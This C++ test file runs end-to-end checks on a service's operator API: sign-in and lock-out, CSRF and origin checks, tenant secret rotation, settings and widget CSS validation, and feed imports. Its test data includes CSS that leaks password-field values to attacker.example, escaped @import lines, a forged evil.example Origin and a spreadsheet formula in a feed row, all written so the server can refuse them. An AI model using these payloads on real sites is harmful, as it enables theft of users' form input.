// The operator API end to end (docs/adr/0039-0041): a real server on port 0, real storage, real
// Argon2id (at libsodium's minimum cost, so tests stay fast), a real HTTP client. Each case
// fails when its feature is taken out: sign-in, cookie flags, lock-out, CSRF, authentication,
// tenant creation, secret rotation, disabling, field-level validation.
#include <doctest/doctest.h>

#include <nlohmann/json.hpp>

#include "DataDirSql.hpp"
#include "OperatorCliRun.hpp"
#include "ServerFixture.hpp"
#include "operator/OperatorAccounts.hpp"
#include "tenant/SecretHasher.hpp"

using namespace svc;
using nlohmann::json;

namespace {

constexpr const char* kEmail = "ops@example.com";
constexpr const char* kPassword = "correct horse battery";

const std::vector<std::string> kFeedHeader = {"sku", "main-sku", "model", "stock", "name", "retail-price", "discount-price",
                                              "deeplink", "image", "category-path", "marke", "farbe"};

std::vector<std::string> feedRow(const std::string& sku, const std::string& stock = "5") {
    return {sku, sku, "M-" + sku, stock, "Item " + sku, "5000", "5000", "https://shop.example/" + sku,
            "https://shop.example/" + sku + ".jpg", "Women > Jeans", "Brand", "Blue"};
}


ServerOptions fastPasswords(bool secureCookies = false) {
    ServerOptions options;
    options.console.passwordCost = PasswordCost::minimal();
    options.console.secureCookies = secureCookies;
    return options;
}

struct ConsoleFixture {
    test::TempDir dir;
    test::ManualClock clock;
    test::RunningServer server;
    std::string cookie;  // "svc_operator_session=..."
    std::string csrf;

    explicit ConsoleFixture(bool secureCookies = false) : server(dir.path(), &clock, fastPasswords(secureCookies)) {
        auto storeStorage = test::openStorage(dir.path());
        auto* store = &storeStorage->operators();
        REQUIRE(store);
        OperatorAccounts accounts(*store, storeStorage->rateLimits(), clock, PasswordCost::minimal());
        REQUIRE(accounts.createOperator(kEmail, kPassword));
    }

    httplib::Result signIn(const std::string& password, const std::string& email = kEmail) {
        return server.client().Post("/operator/api/session", json{{"email", email}, {"password", password}}.dump(), "application/json");
    }
    void signInOk() {
        auto response = signIn(kPassword);
        REQUIRE(response);
        REQUIRE(response->status == 200);
        std::string setCookie = response->get_header_value("Set-Cookie");
        cookie = setCookie.substr(0, setCookie.find(';'));
        csrf = json::parse(response->body)["csrfToken"];
    }
    httplib::Headers session(bool withCsrf = true) const {
        httplib::Headers headers{{"Cookie", cookie}};
        if (withCsrf) headers.emplace("X-CSRF-Token", csrf);
        return headers;
    }
    json createTenant(const std::string& name) {
        auto response = server.client().Post("/operator/api/tenants", session(), json{{"name", name}}.dump(), "application/json");
        REQUIRE(response);
        REQUIRE(response->status == 201);
        return json::parse(response->body);
    }
};

json errorOf(const httplib::Result& response) { return json::parse(response->body)["error"]; }

std::string joined(const std::vector<std::string>& parts) {
    std::string out;
    for (const auto& part : parts) out += (out.empty() ? "" : ",") + part;
    return out;
}

std::vector<std::string> fieldsOf(const httplib::Result& response) {
    std::vector<std::string> fields;
    json error = errorOf(response);  // kept: a range over a temporary's member would dangle
    for (const auto& item : error["fields"]) fields.push_back(item["field"]);
    return fields;
}

}  // namespace

TEST_CASE("Operator sign-in: the right password opens a session with a hardened cookie; a wrong one does not") {
    ConsoleFixture fixture;
    auto wrong = fixture.signIn("not the password");
    REQUIRE(wrong);
    CHECK(wrong->status == 401);
    CHECK(wrong->get_header_value("Set-Cookie").empty());
    CHECK(errorOf(wrong)["message"] == "email or password is not valid");
    auto unknown = fixture.signIn(kPassword, "nobody@example.com");
    CHECK(unknown->status == 401);
    CHECK(errorOf(unknown)["message"] == "email or password is not valid");  // never says which was wrong

    auto good = fixture.signIn(kPassword);
    REQUIRE(good->status == 200);
    std::string cookie = good->get_header_value("Set-Cookie");
    CHECK(cookie.rfind("svc_operator_session=", 0) == 0);
    CHECK(cookie.find("; HttpOnly") != std::string::npos);
    CHECK(cookie.find("; SameSite=Strict") != std::string::npos);
    CHECK(cookie.find("; Path=/operator/api") != std::string::npos);
    CHECK(cookie.find("Secure") == std::string::npos);  // plain http://localhost: the browser would drop a Secure cookie
    CHECK(good->body.find(kPassword) == std::string::npos);

    fixture.signInOk();
    auto me = fixture.server.client().Get("/operator/api/me", fixture.session(false));
    REQUIRE(me->status == 200);
    CHECK(json::parse(me->body)["email"] == kEmail);
    // The token is stored hashed only: the cookie's value is nowhere in the database.
    std::string stored = test::DataDirSql::storedBytes(fixture.dir.path());
    std::string token = fixture.cookie.substr(fixture.cookie.find('=') + 1);
    CHECK(stored.find(token) == std::string::npos);
    CHECK(stored.find(kPassword) == std::string::npos);

    // Sessions end by themselves after 8 hours.
    fixture.clock.advance(OperatorAccounts::kSessionSeconds - 1);
    CHECK(fixture.server.client().Get("/operator/api/me", fixture.session(false))->status == 200);
    fixture.clock.advance(1);
    CHECK(fixture.server.client().Get("/operator/api/me", fixture.session(false))->status == 401);
    fixture.signInOk();

    auto signOut = fixture.server.client().Delete("/operator/api/session", fixture.session());
    CHECK(signOut->status == 204);
    CHECK(fixture.server.client().Get("/operator/api/me", fixture.session(false))->status == 401);
}

TEST_CASE("Operator session cookie is Secure when the operator configures it") {
    ConsoleFixture fixture(true);
    auto good = fixture.signIn(kPassword);
    REQUIRE(good->status == 200);
    CHECK(good->get_header_value("Set-Cookie").find("; Secure") != std::string::npos);
}

TEST_CASE("Operator lock-out: five failed sign-ins lock the account for 15 minutes, even against the right password") {
    ConsoleFixture fixture;
    for (int attempt = 1; attempt < OperatorAccounts::kMaxFailures; ++attempt) CHECK(fixture.signIn("wrong password!")->status == 401);
    auto fifth = fixture.signIn("wrong password!");
    CHECK(fifth->status == 429);
    CHECK(errorOf(fifth)["message"] == "[svc.limit.305] too many failed sign-ins: signing in is locked for 15 minutes");
    auto locked = fixture.signIn(kPassword);
    CHECK(locked->status == 429);
    CHECK(locked->get_header_value("Set-Cookie").empty());
    fixture.clock.advance(14 * 60);
    CHECK(errorOf(fixture.signIn(kPassword))["message"] == "[svc.limit.305] too many failed sign-ins: signing in is locked for 1 minute");
    fixture.clock.advance(61);
    CHECK(fixture.signIn(kPassword)->status == 200);
}

TEST_CASE("Operator lock-out per client address: 20 failures over several accounts lock the address") {
    ConsoleFixture fixture;
    for (int attempt = 0; attempt < OperatorAccounts::kMaxFailuresPerAddress - 1; ++attempt) {
        CHECK(fixture.signIn(kPassword, "guess" + std::to_string(attempt) + "@example.com")->status == 401);
    }
    CHECK(fixture.signIn(kPassword, "last@example.com")->status == 401);
    CHECK(fixture.signIn(kPassword)->status == 429);  // the right account and password, from a locked address
    fixture.clock.advance(OperatorAccounts::kLockSeconds);
    CHECK(fixture.signIn(kPassword)->status == 200);
}

TEST_CASE("Operator CSRF: a state-changing call by session needs the session's token and this server's origin") {
    ConsoleFixture fixture;
    fixture.signInOk();
    auto body = json{{"name", "Shop"}}.dump();
    auto noToken = fixture.server.client().Post("/operator/api/tenants", fixture.session(false), body, "application/json");
    CHECK(noToken->status == 403);
    CHECK(errorOf(noToken)["message"].get<std::string>().rfind("X-CSRF-Token:", 0) == 0);
    auto otherToken = fixture.session(false);
    otherToken.emplace("X-CSRF-Token", SecretHasher::hash("guess").substr(0, fixture.csrf.size()));
    CHECK(fixture.server.client().Post("/operator/api/tenants", otherToken, body, "application/json")->status == 403);
    auto foreign = fixture.session();
    foreign.emplace("Origin", "http://evil.example");
    CHECK(fixture.server.client().Post("/operator/api/tenants", foreign, body, "application/json")->status == 403);
    auto list = fixture.server.client().Get("/operator/api/tenants", fixture.session());
    CHECK(json::parse(list->body)["tenants"].empty());
    // Nor may another site sign a browser in.
    auto crossSiteSignIn = fixture.server.client().Post("/operator/api/session", httplib::Headers{{"Origin", "http://evil.example"}},
                                                        json{{"email", kEmail}, {"password", kPassword}}.dump(), "application/json");
    CHECK(crossSiteSignIn->status == 403);
    CHECK(crossSiteSignIn->get_header_value("Set-Cookie").empty());  // nothing was created by the refused calls
    CHECK(fixture.server.client().Post("/operator/api/tenants", fixture.session(), body, "application/json")->status == 201);
}

TEST_CASE("Operator API refuses calls without a session or operator key, and takes operator keys for scripts") {
    ConsoleFixture fixture;
    for (const char* path : {"/operator/api/me", "/operator/api/tenants"}) {
        auto response = fixture.server.client().Get(path);
        CHECK(response->status == 401);
    }
    CHECK(fixture.server.client().Post("/operator/api/tenants", json{{"name", "X"}}.dump(), "application/json")->status == 401);
    httplib::Headers stale{{"Cookie", "svc_operator_session=forged"}};
    CHECK(fixture.server.client().Get("/operator/api/tenants", stale)->status == 401);

    REQUIRE(fixture.server.storage->operatorKeys().addOperatorKey({"script", SecretHasher::hash("key-of-the-script")}));
    httplib::Headers key{{"Authorization", "Bearer key-of-the-script"}};
    auto created = fixture.server.client().Post("/operator/api/tenants", key, json{{"name", "Scripted"}}.dump(), "application/json");
    CHECK(created->status == 201);
    httplib::Headers wrongKey{{"Authorization", "Bearer nope"}};
    CHECK(fixture.server.client().Get("/operator/api/tenants", wrongKey)->status == 401);
}

TEST_CASE("Operator tenants: the new secret works once shown; rotation refuses the old one; disabling refuses the tenant") {
    ConsoleFixture fixture;
    fixture.signInOk();
    json created = fixture.createTenant("Fashion Shop");
    std::string apiId = created["tenant"]["apiId"];
    std::string secret = created["apiSecret"];
    CHECK(secret.size() == 43);
    auto shown = fixture.server.client().Get("/operator/api/tenants/" + apiId, fixture.session());
    CHECK(shown->body.find(secret) == std::string::npos);  // shown once: never again
    CHECK(json::parse(shown->body)["name"] == "Fashion Shop");

    auto feedsWith = [&](const std::string& key) {
        return fixture.server.client().Get("/feeds/imports", httplib::Headers{{"x-api-id", apiId}, {"x-api-secret", key}})->status;
    };
    CHECK(feedsWith(secret) == 200);
    auto rotated = fixture.server.client().Post("/operator/api/tenants/" + apiId + "/secret", fixture.session(), "", "application/json");
    REQUIRE(rotated->status == 200);
    std::string newSecret = json::parse(rotated->body)["apiSecret"];
    CHECK(newSecret != secret);
    CHECK(feedsWith(secret) == 401);
    CHECK(feedsWith(newSecret) == 200);

    Tenant tenant = **fixture.server.storage->tenants().findByApiId(apiId);
    auto feed = test::feedCsv({kFeedHeader, feedRow("A"), feedRow("B")});
    REQUIRE(test::importFeedFile(*fixture.server.storage, tenant, fixture.dir.path(), fixture.dir.file("feed.csv", feed)));
    auto graphqlProduct = [&] {
        return fixture.server.client().Post("/graphql", httplib::Headers{{"x-api-id", apiId}}, R"({"query":"{ product(id: \"A\") { id } }"})",
                                            "application/json")->body;
    };
    CHECK(fixture.server.client().Get("/" + apiId + "/content?w=SIMILAR&t=product&s=A&i=")->status == 200);
    CHECK(graphqlProduct().find("\"id\":\"A\"") != std::string::npos);
    CHECK(fixture.server.client().Get("/" + apiId + "/loader.js")->status == 200);
    auto disabled = fixture.server.client().Post("/operator/api/tenants/" + apiId + "/disable", fixture.session(), "", "application/json");
    REQUIRE(disabled->status == 200);
    CHECK(json::parse(disabled->body)["disabled"] == true);
    CHECK(fixture.server.client().Get("/" + apiId + "/content?w=SIMILAR&t=product&s=A&i=")->status == 404);
    CHECK(fixture.server.client().Get("/" + apiId + "/loader.js")->status == 404);
    CHECK(feedsWith(newSecret) == 403);
    auto event = fixture.server.client().Post("/events", httplib::Headers{{"x-api-id", apiId}}, "{}", "application/json");
    CHECK(event->status == 403);
    CHECK(graphqlProduct().find("\"id\":\"A\"") == std::string::npos);

    CHECK(fixture.server.client().Post("/operator/api/tenants/" + apiId + "/enable", fixture.session(), "", "application/json")->status == 200);
    CHECK(feedsWith(newSecret) == 200);
    CHECK(graphqlProduct().find("\"id\":\"A\"") != std::string::npos);
}

TEST_CASE("Operator tenant settings: every invalid field is named and nothing is written; valid ones are stored") {
    ConsoleFixture fixture;
    fixture.signInOk();
    std::string apiId = fixture.createTenant("Shop")["tenant"]["apiId"];
    auto patch = [&](const json& body) {
        return fixture.server.client().Patch("/operator/api/tenants/" + apiId, fixture.session(), body.dump(), "application/json");
    };
    auto bad = patch({{"currency", "euro"}, {"locale", "German"}, {"country", "Germany"}, {"commissionRates", "lots"},
                      {"attributionWindowDays", 0}});
    REQUIRE(bad->status == 400);
    CHECK(joined(fieldsOf(bad)) == "currency,locale,country,commissionRates,attributionWindowDays");
    CHECK(errorOf(bad)["field"] == "currency");
    auto unchanged = json::parse(fixture.server.client().Get("/operator/api/tenants/" + apiId, fixture.session())->body);
    CHECK(unchanged["currency"] == "EUR");
    CHECK(unchanged["country"] == "");

    auto onlyWindow = patch({{"currency", "PLN"}, {"attributionWindowDays", "30"}});
    CHECK(joined(fieldsOf(onlyWindow)) == "attributionWindowDays");

    auto good = patch({{"currency", "PLN"}, {"locale", "de-CH"}, {"country", "ch"}, {"commissionRates", "500,SET=750"},
                       {"attributionWindowDays", 14}});
    REQUIRE(good->status == 200);
    auto stored = json::parse(good->body);
    CHECK(stored["currency"] == "PLN");
    CHECK(stored["locale"] == "de-CH");
    CHECK(stored["country"] == "CH");
    CHECK(stored["commissionRates"] == "500,SET=750");
    CHECK(stored["attributionWindowDays"] == 14);
    auto tenant = fixture.server.storage->tenants().findByApiId(apiId);
    CHECK((**tenant).attributionWindowDays == 14);
}

TEST_CASE("Operator tenant settings: the default consent is one field, and loader.js hands it to the SDK") {
    ConsoleFixture fixture;
    fixture.signInOk();
    std::string apiId = fixture.createTenant("Shop")["tenant"]["apiId"];
    auto loaderConsent = [&] {
        auto loader = fixture.server.client().Get("/" + apiId + "/loader.js");
        REQUIRE(loader->status == 200);
        CHECK(loader->body.find("__SVC_") == std::string::npos);
        auto at = loader->body.find("consent: \"");  // the config's member (a comment names it too)
        REQUIRE(at != std::string::npos);
        return loader->body.substr(at + 9, loader->body.find('"', at + 10) - at - 8);
    };
    auto tenantConsent = [&] {
        return json::parse(fixture.server.client().Get("/operator/api/tenants/" + apiId, fixture.session())->body)["consent"];
    };
    // Before an operator sets it: granted, what shops had before consent existed.
    CHECK(tenantConsent() == "granted");
    CHECK(loaderConsent() == "\"granted\"");
    auto patch = [&](const json& body) {
        return fixture.server.client().Patch("/operator/api/tenants/" + apiId, fixture.session(), body.dump(), "application/json");
    };
    auto bad = patch({{"consent", "maybe"}});
    REQUIRE(bad->status == 400);
    CHECK(errorOf(bad)["field"] == "consent");
    CHECK(tenantConsent() == "granted");
    for (const char* state : {"pending", "denied", "granted", "pending"}) {
        CAPTURE(state);
        auto changed = patch({{"consent", state}});
        REQUIRE(changed->status == 200);
        CHECK(json::parse(changed->body)["consent"] == state);
        CHECK(loaderConsent() == "\"" + std::string(state) + "\"");  // at once: the server's cache is cleared
    }
}

TEST_CASE("Operator widget settings: texts per language, language rule and CSS; errors name the language and key") {
    ConsoleFixture fixture;
    fixture.signInOk();
    std::string apiId = fixture.createTenant("Shop")["tenant"]["apiId"];
    auto put = [&](const json& body) {
        return fixture.server.client().Put("/operator/api/tenants/" + apiId + "/widgets", fixture.session(), body.dump(), "application/json");
    };
    auto bad = put({{"languageRule", "browser"}, {"css", "<style>"}, {"texts", {{"de", {{"addToCart", ""}}}, {"fr", {{"noSuchKey", "x"}}}}}});
    REQUIRE(bad->status == 400);
    CHECK(joined(fieldsOf(bad)) == "languageRule,css,texts.de.addToCart,texts.fr.noSuchKey");

    auto good = put({{"languageRule", "fixed"}, {"defaultLanguage", "de"}, {"css", ".svc-card { border-radius: 9px; }"},
                     {"texts", {{"de", {{"addToCart", "Ab in den Korb"}}}}}});
    REQUIRE(good->status == 200);
    auto saved = json::parse(good->body);
    CHECK(saved["languageRule"] == "fixed");
    CHECK(saved["texts"]["de"]["addToCart"] == "Ab in den Korb");
    auto css = fixture.server.client().Get("/" + apiId + "/widgets.css");
    CHECK(css->body.find("border-radius: 9px") != std::string::npos);

    // Leaving a language out removes its bundle.
    REQUIRE(put({{"texts", json::object()}})->status == 200);
    auto after = json::parse(fixture.server.client().Get("/operator/api/tenants/" + apiId + "/widgets", fixture.session())->body);
    CHECK(after["texts"].empty());
    CHECK(after["css"] == ".svc-card { border-radius: 9px; }");
}

// Issue 18, finding 11: CSS that reached outside the widgets was saved; now the console's PUT
// refuses it, naming the line and column next to the CSS field, and stores nothing.
TEST_CASE("Operator widget settings: CSS that reaches outside the widgets is refused with its line and column") {
    ConsoleFixture fixture;
    fixture.signInOk();
    std::string apiId = fixture.createTenant("Shop")["tenant"]["apiId"];
    auto put = [&](const std::string& css) {
        return fixture.server.client().Put("/operator/api/tenants/" + apiId + "/widgets", fixture.session(),
                                           json{{"css", css}}.dump(), "application/json");
    };
    REQUIRE(put(".svc-card__cart { background: #0a5 !important }")->status == 200);
    struct Case {
        std::string css;
        std::string message;
    };
    const std::vector<Case> cases{
        {"input[type=password][value^=a]{background:url(https://attacker.example/a)}",
         "line 1, column 43: url(\"https://attacker.example/a\") leaves svc"},
        {"@IMPORT 'https://attacker.example/x.css';", "line 1, column 1: @import is not allowed"},
        {".svc-card { color: red }\n@\\69mport 'https://attacker.example/x.css';", "line 2, column 1: @import is not allowed"},
        {"body:has(input[value^=a]) .svc-card { color: red }", "line 1, column 1: 'body' is outside the widget"},
        {".svc-card:has(+ input) { color: red }", "line 1, column 10: ':has()' is not allowed"},
    };
    for (const auto& c : cases) {
        CAPTURE(c.css);
        auto refused = put(c.css);
        REQUIRE(refused->status == 400);
        json error = errorOf(refused);
        CHECK(error["fields"][0]["field"] == "css");
        CHECK(error["fields"][0]["message"].get<std::string>().rfind(c.message, 0) == 0);
    }
    auto kept = json::parse(fixture.server.client().Get("/operator/api/tenants/" + apiId + "/widgets", fixture.session())->body);
    CHECK(kept["css"] == ".svc-card__cart { background: #0a5 !important }");
    CHECK(kept["cssProblems"].empty());

    // CSS an older svc stored: the console lists what shops no longer get.
    {
        auto db = test::DataDirSql::open(fixture.dir.path(), "svc.sqlite3");
        REQUIRE(db);
        REQUIRE(db->execute("UPDATE widget_settings SET css = '@import \"https://attacker.example/x.css\"; .svc-card { color: red }'"));
    }
    auto legacy = json::parse(fixture.server.client().Get("/operator/api/tenants/" + apiId + "/widgets", fixture.session())->body);
    REQUIRE(legacy["cssProblems"].size() == 1);
    CHECK(legacy["cssProblems"][0].get<std::string>().rfind("line 1, column 1: @import is not allowed", 0) == 0);
}

TEST_CASE("Operator create (CLI): the password comes from the environment, is checked, and signs in") {
    test::TempDir dir;
    auto run = [&](const std::string& password, const std::string& email) {
        return test::runOperatorCli("create", dir.path(), email, password);
    };
    auto shortPassword = run("short", kEmail);
    CHECK(shortPassword.first == 1);
    CHECK(shortPassword.second.find("password: at least 12 characters") != std::string::npos);
    auto badEmail = run(kPassword, "not-an-address");
    CHECK(badEmail.first == 1);
    CHECK(badEmail.second.find("--email: 'not-an-address' is not an e-mail address") != std::string::npos);
    auto created = run(kPassword, kEmail);
    REQUIRE(created.first == 0);
    CHECK(run(kPassword, kEmail).second.find("--email: an operator with e-mail address") != std::string::npos);

    test::RunningServer server(dir.path(), nullptr, fastPasswords());
    auto response = server.client().Post("/operator/api/session", json{{"email", kEmail}, {"password", kPassword}}.dump(), "application/json");
    CHECK(response->status == 200);
}


TEST_CASE("Operator feed imports: history, row errors as CSV, a held truncated feed confirmed or discarded") {
    ConsoleFixture fixture;
    fixture.signInOk();
    std::string apiId = fixture.createTenant("Feed Shop")["tenant"]["apiId"];
    Tenant tenant = **fixture.server.storage->tenants().findByApiId(apiId);
    auto& storage = *fixture.server.storage;
    const std::string& dir = fixture.dir.path();
    auto full = test::feedCsv({kFeedHeader, feedRow("A"), feedRow("B"), feedRow("C"), feedRow("D", "=HYPERLINK(1)")});
    REQUIRE(test::importFeedFile(storage, tenant, dir, fixture.dir.file("full.csv", full)));
    auto truncated = test::feedCsv({kFeedHeader, feedRow("A")});
    CHECK(test::importFeedFile(storage, tenant, dir, fixture.dir.file("cut1.csv", truncated)).error().code == ErrorCode::PermissionDenied);

    auto history = [&] {
        auto response = fixture.server.client().Get("/operator/api/tenants/" + apiId + "/imports", fixture.session());
        REQUIRE(response->status == 200);
        return json::parse(response->body)["imports"];
    };
    json imports = history();
    REQUIRE(imports.size() == 2);
    CHECK(imports[0]["status"] == "held");
    CHECK(imports[1]["status"] == "applied");
    CHECK(imports[1]["rejected"] == 1);
    std::string first = std::to_string(imports[1]["id"].get<int64_t>());
    std::string held = std::to_string(imports[0]["id"].get<int64_t>());

    auto csv = fixture.server.client().Get("/operator/api/tenants/" + apiId + "/imports/" + first + "/errors.csv", fixture.session());
    REQUIRE(csv->status == 200);
    CHECK(csv->get_header_value("Content-Type").rfind("text/csv", 0) == 0);
    CHECK(csv->get_header_value("Content-Disposition").find("import-" + first + "-row-errors.csv") != std::string::npos);
    CHECK(csv->body.rfind("line,column,kind,message\r\n", 0) == 0);
    CHECK(csv->body.find("\"invalid_integer\"") != std::string::npos);
    CHECK(csv->body.find("=HYPERLINK(1)") != std::string::npos);  // the message quotes the rejected value
    CHECK(fixture.server.client().Get("/operator/api/tenants/" + apiId + "/imports/" + first + "/errors.csv")->status == 401);

    // Confirm needs the CSRF token like every change; then the held file is applied.
    CHECK(fixture.server.client().Post("/operator/api/tenants/" + apiId + "/imports/" + held + "/confirm", fixture.session(false), "",
                                       "application/json")->status == 403);
    auto confirmed = fixture.server.client().Post("/operator/api/tenants/" + apiId + "/imports/" + held + "/confirm", fixture.session(),
                                                  "", "application/json");
    REQUIRE(confirmed->status == 200);
    CHECK(json::parse(confirmed->body)["status"] == "applied");
    CHECK(json::parse(confirmed->body)["markedDeleted"] == 2);

    REQUIRE(test::importFeedFile(storage, tenant, dir, fixture.dir.file("again.csv", full)));
    CHECK(test::importFeedFile(storage, tenant, dir, fixture.dir.file("cut2.csv", truncated)).error().code == ErrorCode::PermissionDenied);
    std::string second = std::to_string(history()[0]["id"].get<int64_t>());
    auto discarded = fixture.server.client().Post("/operator/api/tenants/" + apiId + "/imports/" + second + "/discard", fixture.session(),
                                                  "", "application/json");
    REQUIRE(discarded->status == 200);
    CHECK(json::parse(discarded->body)["status"] == "discarded");
}

TEST_CASE("Operator shops: plugin-registered shops with their endpoints and last contact, never their feed ID") {
    ConsoleFixture fixture;
    CHECK(fixture.server.client().Get("/operator/api/shops")->status == 401);
    fixture.signInOk();
    auto empty = fixture.server.client().Get("/operator/api/shops", fixture.session(false));
    REQUIRE(empty->status == 200);
    CHECK(json::parse(empty->body)["shops"].empty());

    json created = fixture.createTenant("Plugin Shop");
    std::string apiId = created["tenant"]["apiId"];
    std::string feedId = created["tenant"]["feedId"];
    json record = {{"api", {{"attributes", "https://shop.example/svc/attributes"},
                            {"products", "https://shop.example/svc/products"},
                            {"variantDimensions", "https://shop.example/svc/variant-dimensions"}}},
                   {"plugin", {{"version", "1.4.0"}}},
                   {"shop", {{"software", "Shopware"}, {"url", "https://shop.example"}, {"version", "6.5"}}}};
    auto registered = fixture.server.client().Put("/shops/" + apiId + "/" + feedId, {{"svc-com-tid", apiId}, {"svc-com-fid", feedId}},
                                                  record.dump(), "application/json");
    REQUIRE(registered->status == 200);

    auto listed = fixture.server.client().Get("/operator/api/shops", fixture.session(false));
    REQUIRE(listed->status == 200);
    CHECK(listed->body.find(feedId) == std::string::npos);  // the shop's credential stays out of the console
    json shops = json::parse(listed->body)["shops"];
    REQUIRE(shops.size() == 1);
    CHECK(shops[0]["apiId"] == apiId);
    CHECK(shops[0]["tenantName"] == "Plugin Shop");
    CHECK(shops[0]["registration"] == record);
    CHECK(shops[0]["lastRegistrationAt"].get<int64_t>() == fixture.clock.nowSeconds());
    CHECK(shops[0]["lastContactAt"] == 0);  // the plugin has not answered svc yet
}
